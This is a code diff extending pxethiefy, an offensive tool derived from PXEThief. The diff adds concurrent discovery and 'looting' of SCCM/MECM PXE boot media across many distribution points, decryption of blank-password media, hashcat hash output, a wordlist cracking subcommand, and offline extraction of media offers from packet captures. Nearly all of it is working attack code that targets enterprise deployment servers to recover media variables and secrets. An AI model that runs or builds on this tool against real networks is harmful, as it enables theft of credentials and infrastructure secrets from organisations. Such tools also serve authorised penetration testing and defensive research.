+def read_address_file(path):
+    # One DP address per line, blank lines and '#' comments are ignored
+    with open(path, 'r') as address_file:
+        return [line.split('#')[0].strip() for line in address_file if line.split('#')[0].strip()]
 
 def find_and_loot(interface, dp_ip_addr_str=None):
-    # Make Scapy aware that, indeed, DHCP traffic *can* come from source or destination port udp/4011 - the additional port used by MECM
-    bind_layers(UDP,BOOTP,dport=4011,sport=68)
-    bind_layers(UDP,BOOTP,dport=68,sport=4011)
-
+    import pxenet
     try:
-        _,client_mac_addr = get_if_raw_hwaddr(interface)
-        client_mac_addr_str = ':'.join(client_mac_addr.hex()[i:i+2] for i in range(0, len(client_mac_addr.hex()), 2))
-        client_ip_addr = get_if_addr(interface)
+        client_ip_addr, client_mac_addr, client_mac_addr_str = pxenet.get_interface_addresses(interface)
     except Exception as ex:
         log(f"An error occured while trying to get MAC/IP from interface '{interface}'...\n  Error was: {ex}", MSG_TYPE_ERROR)
         sys.exit()
@@ -352,15 +432,86 @@ def find_and_loot(interface, dp_ip_addr_str=None):
     log(f"  IP: {client_ip_addr}", MSG_TYPE_DEFAULT)
     log(f"  MAC: {client_mac_addr_str}", MSG_TYPE_DEFAULT)
 
-    tftp_servers = find_pxe_boot_servers(interface, client_mac_addr)
-    
-    for tftp_server in tftp_servers:
-        ## Looking for media
-        log(f"Found server offering PXE media: {tftp_servers}", MSG_TYPE_SUCCESS)
-        log(f"Looking for PXE media files...", MSG_TYPE_DEFAULT)
-        variables_file, bcd_file, encrypted_key = request_boot_files_with_interface(interface, client_ip_addr, client_mac_addr, tftp_server)
-        if(variables_file):
-            loot_boot_files(tftp_server, variables_file, bcd_file, encrypted_key)
+    discovery_start = time.perf_counter()
+    tftp_servers = pxenet.find_pxe_boot_servers(interface, client_mac_addr, gArchitectures)
+    discovery_time = time.perf_counter() - discovery_start
+    pxestats.add_time("discovery", discovery_time)
+    if not tftp_servers:
+        return []
+
+    ## Looking for media
+    log(f"Found server offering PXE media: {tftp_servers}", MSG_TYPE_SUCCESS)
+    log(f"Looking for PXE media files...", MSG_TYPE_DEFAULT)
+    def loot_tftp_server(tftp_server):
+        results = loot_from_cache(tftp_server)
+        if results is not None:
+            for result in results:
+                result.timings["discovery"] = discovery_time
+            return results
+        dhcp_start = time.perf_counter()
+        offers = pxenet.request_media_offers(tftp_server, gArchitectures, interface, client_ip_addr, client_mac_addr)
+        dhcp_time = time.perf_counter() - dhcp_start
+        pxestats.add_time("dhcp_request", dhcp_time)
+        return loot_offers(tftp_server, offers, {"discovery": discovery_time, "dhcp_request": dhcp_time})
+
+    return loot_concurrently(tftp_servers, loot_tftp_server)
+
+def analyze_capture(pcap_path, media_dir=".", fetch=False):
+    # Offline counterpart of explore: every unique (server, variables file) offer in the capture goes through
+    # the same blank-key path, using a local copy of the media file if there is one, or TFTP with fetch
+    import pxenet
+    results = []
+    seen = set()
+    log(f"Reading DHCP/PXE replies from '{pcap_path}'...", MSG_TYPE_DEFAULT)
+    for dp_ip_addr, dhcp_options in pxenet.read_pxe_replies(pcap_path):
+        result = DPResult(dp_ip_addr)
+        result.option_243 = pxenet.get_dhcp_option(dhcp_options, 243)
+        try:
+            result.variables_file, result.bcd_file, result.encrypted_key = pxenet.extract_boot_files(result.option_243, dhcp_options)
+        except ValueError as ex:
+            log(f"Skipping malformed PXE reply from {dp_ip_addr}: {ex}", MSG_TYPE_WARNING)
+            continue
+        if not result.variables_file or (dp_ip_addr, result.variables_file) in seen:
+            continue
+        seen.add((dp_ip_addr, result.variables_file))
+
+        log(f"Found PXE media offered by {dp_ip_addr}", MSG_TYPE_SUCCESS)
+        local_media_file = os.path.join(media_dir, result.variables_file.split("\\")[-1])
+        if fetch:
+            try:
+                loot_boot_files(dp_ip_addr, result.variables_file, result.bcd_file, result.encrypted_key, result)
+            except Exception as ex:
+                result.error = str(ex)
+                log(f"Failed to fetch media from {dp_ip_addr}: {ex}", MSG_TYPE_ERROR)
+        else:
+            log(f"Variables File Location: {result.variables_file}", MSG_TYPE_DEFAULT)
+            log(f"BCD File Location: {result.bcd_file}", MSG_TYPE_DEFAULT)
+            result.key_type = "blank" if result.encrypted_key else "password"
+            if os.path.isfile(local_media_file):
+                result.media_file = local_media_file
+                if result.encrypted_key:
+                    log("Blank password on PXE media file found!", MSG_TYPE_SUCCESS)
+                    media_variables = decrypt_media_file_cached(local_media_file, derive_blank_decryption_key(result.encrypted_key), None if gAllVariables else MEDIA_VARIABLES, result)
+                    if media_variables:
+                        result.decrypted = True
+                        result.media_variables = media_variables
+                        process_pxe_media_variables(media_variables, gAllVariables)
+                else:
+                    log("PXE boot media is encrypted with custom password", MSG_TYPE_DEFAULT)
+                    result.hashcat_hash = f"$sccm$aes128${read_media_variable_file_header(local_media_file).hex()}"
+                    log_media_hash(result.hashcat_hash)
+            elif result.encrypted_key:
+                log(f"Blank password on PXE media file found, key: 0x{derive_blank_decryption_key(result.encrypted_key).hex()}", MSG_TYPE_SUCCESS)
+                log(f"  '{local_media_file}' not found, use --fetch to download and decrypt it", MSG_TYPE_NOPREFIX)
+            else:
+                log("PXE boot media is encrypted with custom password", MSG_TYPE_DEFAULT)
+                log(f"  '{local_media_file}' not found, use --fetch to download it and create the hash", MSG_TYPE_NOPREFIX)
+        results.append(result)
+        emit_result(result)
+
+    if not results:
+        log("No DHCP replies with PXE media (option 243) found in the capture", MSG_TYPE_ERROR)
+    return results
 
 def print_banner():
    print(rf""" 
@@ -375,58 +526,196 @@ def print_banner():
                                                                                        v.{gVersion}
                                                 Based on the original PXEThief by MWR-CyberSec
                                                      https://github.com/MWR-CyberSec/PXEThief/
-""")
+""", file=pxelog.gLogStream)
+
+def wants_results_on_stdout(argv):
+    # Decided before argparse runs so that not even the banner ends up between the JSON lines
+    return "--output=-" in argv or "-o-" in argv or any(flag in ("-o", "--output") and value == "-" for flag, value in zip(argv, argv[1:]))
+
+def run_subcommand(args, parser, find_and_loot_parser):
+    global gWorkers, gSaveMediaFiles, gAllVariables, gArchitectures
+    ## Find and loot
+    if( args.subcommands == 'explore'):
+        import pxenet
+        pxenet.gReplyTimeout = args.timeout
+        gWorkers = args.workers
+        gTftpOptions.update({name: value for name, value in (("blksize", args.blksize), ("windowsize", args.windowsize)) if value is not None})
+        gSaveMediaFiles = args.save_media
+        gAllVariables = args.all_variables
+        gArchitectures = list(PXE_ARCHITECTURE_NAMES) if args.arch == "all" else [args.arch]
+        dp_ip_addrs = list(args.dp_ip_addr_strs)
+        if (args.dp_address_file):
+            dp_ip_addrs += read_address_file(args.dp_address_file)
+        # Keep the order given on the command line but query every DP only once
+        dp_ip_addrs = list(dict.fromkeys(dp_ip_addrs))
+        if (len(dp_ip_addrs) == 1):
+            for result in loot_ip_address(dp_ip_addrs[0]):
+                emit_result(result)
+        elif (dp_ip_addrs):
+            loot_concurrently(dp_ip_addrs, loot_ip_address)
+        elif (args.interface):
+            find_and_loot(args.interface)
+        else:
+            find_and_loot_parser.print_help()
+    
+    ## Decrypt
+    elif( args.subcommands == 'decrypt'):
+        gAllVariables = args.all_variables
+        passwords = list(args.passwords)
+        if( args.password_file ):
+            passwords += read_password_file(args.password_file)
+        passwords = list(dict.fromkeys(passwords))
+        media_files = expand_media_paths(args.mediafiles)
+        if( not passwords or not media_files ):
+            log("Give at least one password (-p/-P) and one existing media file (-f)", MSG_TYPE_ERROR)
+        elif( len(media_files) == 1 and len(passwords) == 1 ):
+            result = DPResult(None, media_file=media_files[0], key_type="password", password=passwords[0])
+            media_variables = decrypt_media_file_cached(media_files[0], passwords[0], None if gAllVariables else MEDIA_VARIABLES, result)
+            if( media_variables ):
+                result.decrypted = True
+                result.media_variables = media_variables
+                process_pxe_media_variables(media_variables, gAllVariables)
+            else:
+                result.error = "Failed to decrypt media variables file"
+            emit_result(result)
+        else:
+            decrypt_media_batch(media_files, passwords, None if gAllVariables else MEDIA_VARIABLES, args.processes)
+
+    ## Analyze
+    elif( args.subcommands == 'analyze' ):
+        gAllVariables = args.all_variables
+        import pxenet
+        try:
+            analyze_capture(args.pcap, args.media_dir, args.fetch)
+        except (OSError, pxenet.Scapy_Exception) as ex:
+            log(f"Could not read capture '{args.pcap}': {ex}", MSG_TYPE_ERROR)
+
+    ## Crack
+    elif( args.subcommands in ('crack', 'verify') ):
+        crack_media(args.media_hash, args.mediafile, args.wordlist, args.processes)
+    
+    else:
+        parser.print_help()
 
 def main():
+    global gResultWriter, gCache, gRefreshCache
+    if wants_results_on_stdout(sys.argv[1:]):
+        pxelog.gLogStream = sys.stderr
     print_banner()
     ### ARG parser
     parser = argparse.ArgumentParser(description="""
 [**] Examples: 
     pxethiefy.py explore -i eth0
     pxethiefy.py explore -i eth0 -a 192.0.2.50                    
+    pxethiefy.py explore -a 192.0.2.50 -a 192.0.2.51 -A ./dps.txt
     pxethiefy.py decrypt -p "password" -f ./2023.05.05.10.43.44.0001.{85CA0850-35DC-4A1F-A0B8-8A546B317DD1}.boot.var
+    pxethiefy.py crack -w ./wordlist.txt -f ./2023.05.05.10.43.44.0001.{85CA0850-35DC-4A1F-A0B8-8A546B317DD1}.boot.var
+    pxethiefy.py analyze -r ./capture.pcapng
 """, formatter_class=argparse.RawTextHelpFormatter)
     subparsers = parser.add_subparsers(title='subcommands', dest="subcommands")
+    ## Options shared by the subcommands that use the result cache
+    cache_parser = argparse.ArgumentParser(add_help=False)
+    cache_parser.add_argument('--refresh', required=False, action='store_true', dest='refresh', help="Ignore cached results and fetch/decrypt again (the cache is still updated)..")
+    cache_parser.add_argument('--clear-cache', required=False, action='store_true', dest='clear_cache', help="Delete every cached result (media keys and variables included) before running..")
+    cache_parser.add_argument('--no-cache', required=False, action='store_false', dest='use_cache', help="Neither read nor write the result cache..")
+    cache_parser.add_argument('--cache-file', required=False, type=str, dest='cache_file', default=None, help=f"Result cache location (default: {pxecache.default_cache_path()})..")
+    cache_parser.add_argument('--cache-ttl', required=False, type=float, dest='cache_ttl', default=pxecache.DEFAULT_TTL / 3600, help=f"Hours before cached results expire (default: {pxecache.DEFAULT_TTL // 3600})..")
+    ## Options shared by every subcommand to see where a run spends its time
+    profile_parser = argparse.ArgumentParser(add_help=False)
+    profile_parser.add_argument('--stats', required=False, action='store_true', dest='stats', help="Print phase timers, packet/byte counters and throughputs at the end of the run..")
+    profile_parser.add_argument('--profile', required=False, type=str, dest='profile', metavar='REPORT', help="Run under cProfile and tracemalloc and write a report to this file (and REPORT.prof)..")
     ## Find and loot
-    find_and_loot_parser = subparsers.add_parser('explore', formatter_class=argparse.RawTextHelpFormatter, description="""
+    find_and_loot_parser = subparsers.add_parser('explore', parents=[cache_parser, profile_parser], formatter_class=argparse.RawTextHelpFormatter, description="""
 [**] Query for PXE servers and media on the network
 [**] Examples: 
     pxethiefy.py explore -i eth0
     pxethiefy.py explore -a 192.0.2.50
+    pxethiefy.py explore -a 192.0.2.50 -a 192.0.2.51 -A ./dps.txt -w 16
 """, help="Query for PXE servers and media on the network")
-    find_and_loot_parser.add_argument('-a', '--address', required=False, type=str, dest='dp_ip_addr_str', help="Specify the IP address of a PXE-enabled distribution point instead of discovering on network..")
+    find_and_loot_parser.add_argument('-a', '--address', required=False, type=str, dest='dp_ip_addr_strs', action='append', default=[], help="Specify the IP address of a PXE-enabled distribution point instead of discovering on network (repeatable)..")
+    find_and_loot_parser.add_argument('-A', '--address-file', required=False, type=str, dest='dp_address_file', help="File with one distribution point IP address per line..")
+    find_and_loot_parser.add_argument('-w', '--workers', required=False, type=int, dest='workers', default=gWorkers, help=f"Number of distribution points to query in parallel (default: {gWorkers})..")
     find_and_loot_parser.add_argument('-i', '--interface', required=False, type=str, dest='interface', help="Interface to use to search for PXE servers..")
+    find_and_loot_parser.add_argument('--arch', required=False, type=str, dest='arch', default="bios", choices=PXE_ARCHITECTURE_NAMES + ("all",), help="Client architecture to request media for, 'all' asks for every one at once (default: bios)..")
+    find_and_loot_parser.add_argument('--blksize', required=False, type=int, dest='blksize', default=None, help="TFTP block size to negotiate, 512 disables the option (default: 1428)..")
+    find_and_loot_parser.add_argument('--windowsize', required=False, type=int, dest='windowsize', default=None, help="TFTP window size to negotiate, 1 disables the option (default: 8)..")
+    find_and_loot_parser.add_argument('--no-save', required=False, action='store_false', dest='save_media', help="Do not write downloaded media variables files to disk..")
+    find_and_loot_parser.add_argument('--all-variables', required=False, action='store_true', dest='all_variables', help="Parse and print every variable of decrypted media..")
+    find_and_loot_parser.add_argument('-o', '--output', required=False, type=str, dest='output', help="Append results as JSON lines to this file ('-' for stdout, other output then goes to stderr)..")
+    find_and_loot_parser.add_argument('-t', '--timeout', required=False, type=float, dest='timeout', default=gReplyTimeout, help=f"Maximum seconds to wait for DHCP replies (default: {gReplyTimeout})..")
     ## Decrypt
-    decrypt_parser = subparsers.add_parser('decrypt', formatter_class=argparse.RawTextHelpFormatter, description="""
+    decrypt_parser = subparsers.add_parser('decrypt', parents=[cache_parser, profile_parser], formatter_class=argparse.RawTextHelpFormatter, description="""
 [**] Decrypt media downloaded in 'explore' step with cracked password
-[**] Example: 
+[**] Examples: 
     pxethiefy.py decrypt -p "password" -f ./2023.05.05.10.43.44.0001.{85CA0850-35DC-4A1F-A0B8-8A546B317DD1}.boot.var
+    pxethiefy.py decrypt -p "password" -p "password2" -f ./loot/ -f './site2/*.boot.var' -o results.jsonl
 """, help="Decrypt media downloaded in 'explore' step with cracked password")
-    decrypt_parser.add_argument('-p', '--password', required=True, type=str, dest='password', help="Cracked password to decrypt media file")
-    decrypt_parser.add_argument('-f', '--media-file', required=True, type=str, dest='mediafile', help="Path to downloaded media file")
+    decrypt_parser.add_argument('-p', '--password', required=False, type=str, dest='passwords', action='append', default=[], help="Cracked password to decrypt media file (repeatable)")
+    decrypt_parser.add_argument('-P', '--password-file', required=False, type=str, dest='password_file', help="File with one password per line")
+    decrypt_parser.add_argument('-f', '--media-file', required=True, type=str, dest='mediafiles', action='append', help="Path to downloaded media file, a directory of .var files or a glob pattern (repeatable)")
+    decrypt_parser.add_argument('-j', '--processes', required=False, type=int, dest='processes', default=None, help="Number of worker processes decrypting several files (default: number of CPUs)")
+    decrypt_parser.add_argument('-o', '--output', required=False, type=str, dest='output', help="Append the result as a JSON line to this file ('-' for stdout, other output then goes to stderr)")
+    decrypt_parser.add_argument('--all-variables', required=False, action='store_true', dest='all_variables', help="Parse and print every variable of the media file")
+    ## Crack
+    crack_parser = subparsers.add_parser('crack', aliases=['verify'], parents=[profile_parser], formatter_class=argparse.RawTextHelpFormatter, description="""
+[**] Test a wordlist against the hash (or file) of password protected media
+[**] Examples: 
+    pxethiefy.py crack -w ./wordlist.txt -f ./2023.05.05.10.43.44.0001.{85CA0850-35DC-4A1F-A0B8-8A546B317DD1}.boot.var
+    pxethiefy.py crack -w ./wordlist.txt -H '$sccm$aes128$<80 hex characters from explore>'
+""", help="Test a wordlist against the hash (or file) of password protected media")
+    crack_target = crack_parser.add_mutually_exclusive_group(required=True)
+    crack_target.add_argument('-H', '--hash', type=str, dest='media_hash', help="$sccm$aes128$ hash printed by 'explore'")
+    crack_target.add_argument('-f', '--media-file', type=str, dest='mediafile', help="Path to downloaded media file")
+    crack_parser.add_argument('-w', '--wordlist', required=True, type=str, dest='wordlist', help="Candidate passwords, one per line")
+    crack_parser.add_argument('-j', '--processes', required=False, type=int, dest='processes', default=None, help="Number of worker processes (default: number of CPUs)")
+    ## Analyze
+    analyze_parser = subparsers.add_parser('analyze', parents=[cache_parser, profile_parser], formatter_class=argparse.RawTextHelpFormatter, description="""
+[**] Extract PXE media offers from a packet capture and decrypt blank password media
+[**] Examples: 
+    pxethiefy.py analyze -r ./capture.pcapng
+    pxethiefy.py analyze -r ./capture.pcap --fetch -o results.jsonl
+""", help="Extract PXE media offers from a packet capture")
+    analyze_parser.add_argument('-r', '--read', required=True, type=str, dest='pcap', help="pcap or pcapng file to read")
+    analyze_parser.add_argument('-d', '--media-dir', required=False, type=str, dest='media_dir', default=".", help="Directory with media files downloaded earlier (default: current directory)")
+    analyze_parser.add_argument('--fetch', required=False, action='store_true', dest='fetch', help="Download the media from the servers found in the capture")
+    analyze_parser.add_argument('-o', '--output', required=False, type=str, dest='output', help="Append results as JSON lines to this file ('-' for stdout, other output then goes to stderr)")
+    analyze_parser.add_argument('--all-variables', required=False, action='store_true', dest='all_variables', help="Parse and print every variable of decrypted media")
     
     args = parser.parse_args()
-
-    ## Find and loot
-    if( args.subcommands == 'explore'):
-        if (args.dp_ip_addr_str):
-            loot_ip_address(args.dp_ip_addr_str)
-        elif (args.interface):
-            find_and_loot(args.interface)
-        else:
-            find_and_loot_parser.print_help()
-    
-    ## Decrypt
-    elif( args.subcommands == 'decrypt'):
-        if( args.mediafile and args.password ):
-            media_variables = decrypt_media_file(args.mediafile, args.password)
-            if( media_variables ):
-                process_pxe_media_xml(media_variables)
-        else:
-            decrypt_parser.print_help()
-    
+    if( getattr(args, 'output', None) ):
+        gResultWriter = ResultWriter(args.output)
+    if( getattr(args, 'use_cache', False) ):
+        try:
+            gCache = pxecache.ResultCache(args.cache_file, ttl=args.cache_ttl * 3600)
+        except (OSError, pxecache.sqlite3.Error) as ex:
+            log(f"Result cache disabled, could not open it: {ex}", MSG_TYPE_WARNING)
+        gRefreshCache = args.refresh
+        if( gCache and args.clear_cache ):
+            gCache.clear()
+            log(f"Cleared the result cache at {gCache.path}", MSG_TYPE_DEFAULT)
+
+    profile = getattr(args, 'profile', None)
+    if( profile ):
+        import cProfile
+        import tracemalloc
+        pxestats.gProfiling = True
+        tracemalloc.start()
+        profiler = cProfile.Profile()
+        profiler.runcall(run_subcommand, args, parser, find_and_loot_parser)
+        pxestats.write_profile_report(profile, profiler, tracemalloc.take_snapshot())
+        tracemalloc.stop()
+        log(f"Wrote profile report to {profile} (raw profile in {profile}.prof)", MSG_TYPE_DEFAULT)
     else:
-        parser.print_help()
+        run_subcommand(args, parser, find_and_loot_parser)
+    if( profile or getattr(args, 'stats', False) ):
+        log("Run statistics:", MSG_TYPE_DEFAULT)
+        for line in pxestats.summary():
+            log(f"  {line}", MSG_TYPE_DEFAULT)
+
+    if( gResultWriter ):
+        gResultWriter.close()
+    if( gCache ):
+        gCache.close()
 
 if __name__ == '__main__':
     if sys.version_info<(3,0,0):